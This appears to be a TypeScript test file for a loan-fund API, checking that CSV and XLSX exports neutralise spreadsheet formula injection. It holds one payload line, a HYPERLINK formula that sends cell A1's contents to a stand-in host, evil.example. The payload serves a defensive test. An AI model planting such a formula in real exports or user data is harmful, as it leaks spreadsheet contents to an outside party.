import ExcelJS from 'exceljs';
import { Api, application, contribution, disbursement, guarantee, startApi, until } from './support/api';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")';

/** What comes out of the exports is what went in, and never a formula a spreadsheet would run. */
describe('exports of text that looks like a formula, over HTTP', () => {
  let api: Api;
  beforeAll(async () => {
    api = await startApi();
    await api.post('/funds/GC-360721/contributions', contribution(100_000_000));
    const { loanId } = (await api.post('/loans', application(1, { project: { name: FORMULA, industry: 'agriculture' } }))).body;
    await api.post(`/loans/${loanId}/guarantee`, guarantee());
    await api.post(`/loans/${loanId}/disbursement`, disbursement());
    await until(async () => (await api.get('/ledgers/business')).body?.rows?.[0]?.disbursedAmountFen === 5_000_000);
  });
  afterAll(async () => api.stop());

  it('CSV: the project name starts with a quote, the amounts stay figures', async () => {
    const res = await api.raw(`/exports/business?format=csv`);
    const [, line] = (await res.text()).split('\r\n');
    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击"")",`);
    expect(line).toContain(',50000.00,');
  });

  it('XLSX: the project name is a string cell as it was entered, not a formula', async () => {
    const res = await api.raw(`/exports/business?format=xlsx`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await res.arrayBuffer()) as never);
    const sheet = book.worksheets[0];
    const cells = sheet.getRow(4).values as unknown[];
    expect(cells).toContain(FORMULA);
    const cell = sheet.getRow(4).getCell(cells.indexOf(FORMULA));
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cells).toContain(50_000);
  });
});
